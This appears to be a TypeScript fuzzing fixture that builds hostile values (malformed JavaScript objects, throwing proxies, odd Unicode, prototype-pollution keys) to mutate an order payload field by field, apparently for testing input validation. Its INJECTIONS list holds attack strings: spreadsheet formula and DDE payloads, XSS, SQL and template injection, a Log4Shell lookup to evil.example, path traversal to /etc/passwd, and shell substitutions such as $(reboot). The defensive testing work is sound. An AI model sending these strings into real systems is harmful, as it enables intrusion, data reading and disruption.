/** A value that no order should hold, made anew each time. */
export interface HostileValue {
  readonly name: string;
  readonly make: () => unknown;
}

const plain = (name: string, value: unknown): HostileValue => ({ name, make: () => value });

const fails = (): never => {
  throw new Error('planted: this value may not be looked at');
};

const trap: ProxyHandler<object> = {
  get: fails,
  has: fails,
  ownKeys: fails,
  getPrototypeOf: fails,
  getOwnPropertyDescriptor: fails,
};

/** Values of JavaScript that are no JSON: each may run code of its own when it is looked at. */
export const JS_VALUES: readonly HostileValue[] = [
  plain('undefined', undefined),
  plain('NaN', Number.NaN),
  plain('Infinity', Number.POSITIVE_INFINITY),
  plain('-Infinity', Number.NEGATIVE_INFINITY),
  plain('minus zero', -0),
  plain('a bigint', 10n ** 30n),
  plain('a symbol', Symbol('x')),
  plain('a function', () => fails()),
  {
    name: 'a class instance',
    make: () =>
      new (class Order {
        lines = [1];
      })(),
  },
  { name: 'a date', make: () => new Date(Number.NaN) },
  { name: 'a map', make: () => new Map([['lines', []]]) },
  { name: 'a typed array', make: () => new Uint8Array(8) },
  { name: 'a boxed string', make: () => new String('x') },
  { name: 'a boxed number', make: () => new Number(5) },
  { name: 'an error', make: () => new Error('x') },
  { name: 'a regular expression', make: () => /x/g },
  { name: 'an object without prototype', make: () => Object.create(null) },
  { name: 'an object with a hostile prototype', make: () => Object.create(new Proxy({}, trap)) },
  { name: 'a proxy that throws', make: () => new Proxy({}, trap) },
  { name: 'a list proxy that throws', make: () => new Proxy([], trap) },
  {
    name: 'a revoked proxy',
    make: () => {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      return proxy;
    },
  },
  {
    name: 'a list of a billion holes',
    make: () => {
      const list: unknown[] = [];
      list.length = 1_000_000_000;
      return list;
    },
  },
  {
    name: 'a list proxy of endless length',
    make: () =>
      new Proxy([], { get: (list, key) => (key === 'length' ? Number.POSITIVE_INFINITY : Reflect.get(list, key)) }),
  },
  { name: 'a getter that throws', make: () => Object.defineProperty({}, 'length', { get: fails, enumerable: true }) },
  {
    name: 'toString that throws',
    make: () => ({ toString: fails, valueOf: fails, toJSON: fails, [Symbol.toPrimitive]: fails }),
  },
  {
    name: 'a cycle',
    make: () => {
      const cycle: Record<string, unknown> = {};
      cycle['lines'] = [cycle];
      cycle['shipTo'] = cycle;
      return cycle;
    },
  },
  {
    name: 'a list that holds itself',
    make: () => {
      const list: unknown[] = [];
      list.push(list);
      return list;
    },
  },
  { name: 'a frozen object', make: () => Object.freeze({ lines: Object.freeze([]) }) },
  { name: 'something that can be awaited', make: () => Object.fromEntries([['then', fails]]) },
  {
    name: 'an iterator without end',
    make: () => ({
      *[Symbol.iterator]() {
        for (;;) yield 1;
      },
    }),
  },
];

/** JSON values of the wrong kind, for any field. */
export const WRONG_KINDS: readonly HostileValue[] = [
  plain('null', null),
  plain('true', true),
  plain('zero', 0),
  plain('a fraction', 1.5),
  plain('a negative', -1),
  plain('beyond the safe integers', JSON.parse('9007199254740993')),
  plain('the largest number', 1.7976931348623157e308),
  plain('an empty text', ''),
  plain('spaces', '   '),
  plain('the word null', 'null'),
  plain('the word undefined', 'undefined'),
  plain('the word NaN', 'NaN'),
  plain('[object Object]', '[object Object]'),
  plain('an empty list', []),
  plain('a list in a list', [[]]),
  plain('a list of nothing', [null]),
  plain('an empty object', {}),
  plain('an object in an object', { a: { b: {} } }),
  plain('an object with numbers for keys', { 0: 'x', length: 1 }),
  plain('an object that looks like money', { amount: '1', currency: 'EUR' }),
];

/** Texts that mean something to some program behind: formulas, markup, queries, templates, paths, shells. */
export const INJECTIONS: readonly HostileValue[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  "'; DROP TABLE orders; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '\u0024{7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '\u0024{jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$(reboot)',
  '`reboot`',
  '| cat /etc/passwd',
  'a\r\nSet-Cookie: x=1',
  'a%0d%0aBcc: all@example.com',
  '{"$gt":""}',
  '{"__proto__":{"polluted":true}}',
  '%s%s%s%n',
  '\u0000admin',
].map((text) => plain(JSON.stringify(text), text));

/** Texts that are no good text, or look like another. */
export const TEXTS: readonly HostileValue[] = [
  plain('a lone high surrogate', 'x\ud800'),
  plain('a lone low surrogate', '\udc00x'),
  plain('surrogates in the wrong order', '\udc00\ud800'),
  plain('NUL', 'a\u0000b'),
  plain('escape', 'a\u001b[31mb'),
  plain('delete', 'a\u007fb'),
  plain('C1 control', 'a\u0085b'),
  plain('zero width space', 'a\u200bb'),
  plain('zero width joiner', 'a\u200db'),
  plain('direction override', 'a\u202eb'),
  plain('direction isolates', '\u2066a\u2069'),
  plain('byte order mark', '\ufeffa'),
  plain('soft hyphen', 'a\u00adb'),
  plain('no-break space', 'a\u00a0b'),
  plain('ideographic space', 'a\u3000b'),
  plain('Hangul filler', 'a\u3164b'),
  plain('variation selector', 'a\ufe0f'),
  plain('tag characters', 'a\u{e0041}\u{e0042}'),
  plain('a thousand combining marks', `a${'\u0301'.repeat(1000)}`),
  plain('a ligature that grows in normal form', '\ufb03\u1e9b\u0323'),
  plain('what grows eighteen times in normal form', '\ufdfa'.repeat(50)),
  plain('Cyrillic among Latin', 'ТЕST'),
  plain('full-width digits', '１２３'),
  plain('Arabic digits', '١٢٣'),
  plain('dotless i', 'ıstanbul İ'),
  plain('sharp s', 'ßẞ'),
  plain('a family in one emoji', '👨‍👩‍👧‍👦'),
  plain('twenty thousand zeros and a one', `0.${'0'.repeat(20_000)}1`),
  plain('spaces without end', ' '.repeat(100_000)),
  plain('a megabyte of a', 'a'.repeat(1_048_576)),
  plain('a hundred thousand @', '@'.repeat(100_000)),
  plain('a hundred thousand dots', '.'.repeat(100_000)),
];

/** Keys that mean something to JavaScript. */
export const PROTOTYPE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  'length',
  'then',
  'toJSON',
];

/** Values for any field of any payload: hostile to whoever looks at them. */
export function hostileValues(): readonly HostileValue[] {
  return [...JS_VALUES, ...WRONG_KINDS, ...INJECTIONS, ...TEXTS, ...prototypeValues()];
}

/** Objects with own keys that mean something to JavaScript, as JSON.parse makes them. */
export function prototypeValues(): readonly HostileValue[] {
  return PROTOTYPE_KEYS.map((key) => ({
    name: `an own ${key}`,
    make: () => JSON.parse(`{${JSON.stringify(key)}:{"polluted":true,"lines":[{"sku":"x"}]}}`) as unknown,
  }));
}

type Path = readonly (string | number)[];

/** The place of every value in a JSON value, the outermost first. */
export function placesIn(value: unknown, path: Path = []): readonly Path[] {
  if (typeof value !== 'object' || value === null) return [path];
  const entries = Array.isArray(value) ? [...value.entries()] : Object.entries(value);
  return [path, ...entries.flatMap(([key, part]) => placesIn(part, [...path, key]))];
}

/** A payload with one place replaced. */
export function replacedAt(value: unknown, [key, ...rest]: Path, part: unknown): unknown {
  if (key === undefined) return part;
  if (Array.isArray(value)) return value.map((item, index) => (index === key ? replacedAt(item, rest, part) : item));
  const fields = value as Readonly<Record<string, unknown>>;
  return { ...fields, [key]: replacedAt(fields[key], rest, part) };
}

/** A payload with one place left out. */
export function droppedAt(value: unknown, [key, ...rest]: Path): unknown {
  if (key === undefined) return undefined;
  if (Array.isArray(value)) {
    return rest.length === 0
      ? value.filter((_, index) => index !== key)
      : value.map((item, index) => (index === key ? droppedAt(item, rest) : item));
  }
  const fields = value as Readonly<Record<string, unknown>>;
  if (rest.length === 0) return Object.fromEntries(Object.entries(fields).filter(([name]) => name !== String(key)));
  return { ...fields, [key]: droppedAt(fields[key], rest) };
}

/** Every payload that has one hostile value in one place, or one place left out: for translators of any channel. */
export function* mutationsOf(payload: unknown): Generator<{ readonly name: string; readonly make: () => unknown }> {
  for (const path of placesIn(payload)) {
    const at = `/${path.join('/')}`;
    yield { name: `${at} left out`, make: () => droppedAt(payload, path) };
    for (const { name, make } of hostileValues()) {
      yield { name: `${at} is ${name}`, make: () => replacedAt(payload, path, make()) };
    }
  }
}
